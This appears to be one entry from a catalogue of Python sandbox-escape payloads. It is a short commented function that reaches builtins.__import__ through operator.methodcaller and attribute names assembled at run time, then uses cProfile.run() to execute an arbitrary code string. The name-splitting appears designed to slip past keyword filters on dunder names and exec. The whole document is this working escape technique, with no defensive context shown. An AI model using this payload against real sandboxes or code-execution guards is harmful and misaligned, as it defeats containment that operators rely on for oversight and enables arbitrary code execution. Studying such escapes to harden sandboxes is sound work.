# family: stdlib that runs strings
# escape: type(operator.methodcaller(...)) is the methodcaller class, so methodcaller("__getattribute__", name)
# with run-time names walks print -> __self__ (builtins) -> __import__; cProfile.run() exec()s a string.
import operator

def tool(code: str, a: str = "getattribute", b: str = "self", c: str = "import"):
    call = type(operator.methodcaller("strip"))
    builtins = call("__" + a + "__", "__" + b + "__")(print)
    return call("__" + a + "__", "__" + c + "__")(builtins)("cProfile").run(code)
